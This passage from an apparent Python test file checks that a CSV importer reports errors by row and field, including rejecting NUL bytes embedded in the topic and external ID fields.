    assert [(e["row"], e["field"]) for e in errors] == [(2, "correct")]


def test_a_nul_byte_in_a_topic_or_external_id_is_a_row_error(topics):
    errors = _rejected(_csv({**SINGLE, "topic": "alg\x00ebra", "external_id": "x\x00y"}))

    assert {e["field"] for e in errors} >= {"topic"}
    assert all(e["row"] == 2 for e in errors)
